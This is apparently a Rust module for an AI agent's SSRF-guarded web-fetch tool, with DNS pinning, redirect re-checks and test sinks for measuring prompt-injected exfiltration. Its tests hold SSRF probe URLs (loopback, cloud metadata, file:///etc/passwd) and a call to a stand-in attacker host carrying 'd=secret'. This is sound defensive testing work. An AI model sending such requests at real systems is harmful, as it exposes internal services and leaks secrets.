//! The `http.fetch` tool: reads a web page for a workflow, behind the SSRF guard. Every URL it
//! connects to (the first and each redirect) passes `guard::ssrf::check`, and the connection goes
//! to the addresses that check approved (pinned), so a name that resolves differently a moment later
//! (DNS rebinding) gains nothing. Redirects are followed by hand for that reason. The page's text
//! is capped, and what it says is a tool output like any other: the executor withholds text that
//! carries instructions.

use super::ToolError;
use crate::guard::ssrf::{self, Checked, Resolver, StaticResolver, SystemResolver};
use serde::{Deserialize, Serialize};
use serde_json::{json, Value};
use std::collections::BTreeMap;
use std::net::IpAddr;

/// How `http.fetch` resolves names and how much it reads (`config.http_fetch`).
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
#[serde(default, deny_unknown_fields)]
pub struct FetchConfig {
    /// A fixed name table used instead of DNS (tests, offline deployments); empty: the system's
    /// resolver. Either way every address is checked.
    pub hosts: BTreeMap<String, Vec<IpAddr>>,
    /// Bytes of a page kept (the rest is dropped, `truncated: true`).
    pub max_bytes: usize,
    /// Redirects followed, each checked like the first URL.
    pub max_redirects: u32,
    /// Test deployments only (refused with `production`): hosts whose connections go to a fixed
    /// local address, past the address check as if public. The harness points an attacker's
    /// exfiltration host at a sink of its own here, so that an injected "fetch this URL" that
    /// gets through is observed, not stopped by the machine having no internet.
    pub sinks: BTreeMap<String, std::net::SocketAddr>,
    /// The fetch's own address check (on by default; refused off with `production`). It is the
    /// defence behind the input guard's SSRF patterns (`guard.ssrf`), so it has a switch of its
    /// own: only a measurement of what the defences are worth ("guards off") turns it off.
    pub check_addresses: bool,
}

impl Default for FetchConfig {
    fn default() -> Self {
        Self {
            hosts: BTreeMap::new(),
            max_bytes: 64 * 1024,
            max_redirects: 3,
            sinks: BTreeMap::new(),
            check_addresses: true,
        }
    }
}

impl FetchConfig {
    fn resolver(&self) -> Box<dyn Resolver> {
        if self.hosts.is_empty() {
            Box::new(SystemResolver)
        } else {
            Box::new(StaticResolver(
                self.hosts
                    .iter()
                    .map(|(k, v)| (k.to_ascii_lowercase(), v.clone()))
                    .collect(),
            ))
        }
    }
}

/// A URL the guard refused: a permanent refusal (never retried), code `ssrf_blocked`.
fn refused(e: ssrf::SsrfError) -> ToolError {
    ToolError::Rejected {
        code: "ssrf_blocked".into(),
        message: e.to_string(),
    }
}

/// A URL whose host is one of the configured sinks, pinned to the sink's address.
fn sink_of(cfg: &FetchConfig, raw: &str) -> Option<Checked> {
    let url = url::Url::parse(raw.trim()).ok()?;
    let host = url.host_str()?.trim_end_matches('.').to_ascii_lowercase();
    let addr = cfg
        .sinks
        .iter()
        .find(|(h, _)| h.eq_ignore_ascii_case(&host))?
        .1;
    Some(Checked {
        url,
        addrs: vec![*addr],
    })
}

/// The addresses of `raw` without the address check (`check_addresses: false`, guards off): still
/// only http(s), resolved once and pinned, so that what the check would have stopped is reached.
async fn unchecked(raw: &str, resolver: &dyn Resolver) -> Result<Checked, ssrf::SsrfError> {
    let url = url::Url::parse(raw.trim()).map_err(|e| ssrf::SsrfError::Malformed(e.to_string()))?;
    if !matches!(url.scheme(), "http" | "https") {
        return Err(ssrf::SsrfError::Scheme(url.scheme().to_string()));
    }
    let port = url.port_or_known_default().unwrap_or(80);
    let ips = match url.host() {
        None => return Err(ssrf::SsrfError::NoHost),
        Some(url::Host::Ipv4(ip)) => vec![IpAddr::V4(ip)],
        Some(url::Host::Ipv6(ip)) => vec![IpAddr::V6(ip)],
        Some(url::Host::Domain(d)) => resolver.resolve(&d.to_ascii_lowercase(), port).await?,
    };
    Ok(Checked {
        addrs: ips
            .into_iter()
            .map(|ip| std::net::SocketAddr::new(ip, port))
            .collect(),
        url,
    })
}

/// Fetches `url` under the guard, following up to `max_redirects` redirects. With
/// `cfg.check_addresses` off any address is fetched.
pub async fn fetch(cfg: &FetchConfig, url: &str) -> Result<Value, ToolError> {
    let check_addresses = cfg.check_addresses;
    let resolver = cfg.resolver();
    let mut next = url.to_string();
    for _ in 0..=cfg.max_redirects {
        let checked = match sink_of(cfg, &next) {
            Some(c) => c,
            None if check_addresses => ssrf::check(&next, resolver.as_ref())
                .await
                .map_err(refused)?,
            None => unchecked(&next, resolver.as_ref()).await.map_err(refused)?,
        };
        let resp = get_pinned(&checked).await?;
        if resp.status().is_redirection() {
            let location = resp
                .headers()
                .get(reqwest::header::LOCATION)
                .and_then(|l| l.to_str().ok())
                .ok_or_else(|| ToolError::Rejected {
                    code: "bad_redirect".into(),
                    message: "a redirect without a Location".into(),
                })?;
            next = checked
                .url
                .join(location)
                .map_err(|e| refused(ssrf::SsrfError::Malformed(e.to_string())))?
                .to_string();
            continue;
        }
        return read(checked, resp, cfg.max_bytes).await;
    }
    Err(ToolError::Rejected {
        code: "too_many_redirects".into(),
        message: format!("more than {} redirects", cfg.max_redirects),
    })
}

/// One GET to the checked addresses only (no proxy, no redirect, no second resolution).
async fn get_pinned(c: &Checked) -> Result<reqwest::Response, ToolError> {
    let mut b = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .no_proxy();
    if let Some(url::Host::Domain(d)) = c.url.host() {
        for a in &c.addrs {
            b = b.resolve(d, *a);
        }
    }
    let client = b.build().map_err(|e| ToolError::Transient(e.to_string()))?;
    let resp = client
        .get(c.url.clone())
        .send()
        .await
        .map_err(|e| ToolError::Transient(format!("fetch failed: {e}")))?;
    let status = resp.status().as_u16();
    if status == 408 || status == 429 || status >= 500 {
        return Err(ToolError::Upstream {
            status,
            message: format!("{} answered {status}", c.url),
            retry_after_ms: None,
        });
    }
    Ok(resp)
}

async fn read(c: Checked, mut resp: reqwest::Response, max: usize) -> Result<Value, ToolError> {
    let status = resp.status().as_u16();
    let content_type = resp
        .headers()
        .get(reqwest::header::CONTENT_TYPE)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_string();
    let mut body = Vec::new();
    let mut truncated = false;
    while let Some(chunk) = resp
        .chunk()
        .await
        .map_err(|e| ToolError::Transient(format!("reading the page: {e}")))?
    {
        let room = max.saturating_sub(body.len());
        if chunk.len() > room {
            body.extend_from_slice(&chunk[..room]);
            truncated = true;
            break;
        }
        body.extend_from_slice(&chunk);
    }
    Ok(json!({
        "url": c.url.as_str(),
        "status": status,
        "content_type": content_type,
        "text": String::from_utf8_lossy(&body),
        "truncated": truncated,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::SocketAddr;

    fn cfg(hosts: &[(&str, &str)]) -> FetchConfig {
        FetchConfig {
            hosts: hosts
                .iter()
                .map(|(h, ip)| (h.to_string(), vec![ip.parse().unwrap()]))
                .collect(),
            ..FetchConfig::default()
        }
    }

    fn code(r: Result<Value, ToolError>) -> String {
        match r {
            Err(ToolError::Rejected { code, message }) => format!("{code}: {message}"),
            other => format!("{other:?}"),
        }
    }

    #[tokio::test]
    async fn internal_targets_are_refused_before_any_connection() {
        let c = cfg(&[
            ("rebind.example.test", "127.0.0.1"),
            ("meta.example.test", "169.254.169.254"),
        ]);
        for url in [
            "http://127.0.0.1:1/",
            "http://2130706433/",
            "http://[::1]/",
            "http://rebind.example.test/admin",
            "http://meta.example.test/latest/meta-data/",
            "file:///etc/passwd",
            "gopher://example.test/",
            "http://user:pw@example.test/",
            "http://unknown.example.test/",
        ] {
            let why = code(fetch(&c, url).await);
            assert!(why.starts_with("ssrf_blocked"), "{url}: {why}");
        }
    }

    /// A local page server: only reachable because the test builds the checked URL itself (the
    /// guard would refuse its loopback address).
    async fn page_server() -> SocketAddr {
        use axum::routing::get;
        let app = axum::Router::new()
            .route("/page", get(|| async { "Opening hours: nine to five." }))
            .route("/big", get(|| async { "x".repeat(200_000) }))
            .route(
                "/away",
                get(|| async {
                    (
                        axum::http::StatusCode::FOUND,
                        [(axum::http::header::LOCATION, "http://127.0.0.1:1/")],
                    )
                }),
            );
        let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = l.local_addr().unwrap();
        tokio::spawn(async move { axum::serve(l, app).await });
        addr
    }

    fn checked(addr: SocketAddr, path: &str) -> Checked {
        Checked {
            url: url::Url::parse(&format!("http://pinned.example.test{path}")).unwrap(),
            addrs: vec![addr],
        }
    }

    #[tokio::test]
    async fn a_checked_url_is_fetched_from_its_pinned_address_and_capped() {
        let addr = page_server().await;
        let c = checked(addr, "/page");
        let resp = get_pinned(&c).await.unwrap();
        let v = read(c, resp, 1024).await.unwrap();
        assert_eq!(v["status"], 200);
        assert_eq!(v["text"], "Opening hours: nine to five.");
        assert_eq!(v["truncated"], false);
        let c = checked(addr, "/big");
        let resp = get_pinned(&c).await.unwrap();
        let v = read(c, resp, 1000).await.unwrap();
        assert_eq!(v["text"].as_str().unwrap().len(), 1000);
        assert_eq!(v["truncated"], true);
    }

    #[tokio::test]
    async fn a_redirect_is_not_followed_by_the_client() {
        let addr = page_server().await;
        let resp = get_pinned(&checked(addr, "/away")).await.unwrap();
        assert_eq!(
            resp.status().as_u16(),
            302,
            "fetch() re-checks the Location itself"
        );
    }

    #[tokio::test]
    async fn a_sink_host_is_reached_at_its_address_and_the_check_off_reaches_anything() {
        let addr = page_server().await;
        let mut c = cfg(&[("internal.example.test", "127.0.0.1")]);
        c.sinks.insert("evil.attacker.test".into(), addr);
        let v = fetch(&c, "http://evil.attacker.test/page?d=secret")
            .await
            .unwrap();
        assert_eq!(v["text"], "Opening hours: nine to five.");
        // An internal host: refused by the check, reached without it.
        let internal = format!("http://internal.example.test:{}/page", addr.port());
        assert!(code(fetch(&c, &internal).await).starts_with("ssrf_blocked"));
        c.check_addresses = false;
        let v = fetch(&c, &internal).await.unwrap();
        assert_eq!(v["status"], 200);
        // Still http(s) only.
        assert!(code(fetch(&c, "file:///etc/passwd").await).starts_with("ssrf_blocked"));
    }
}
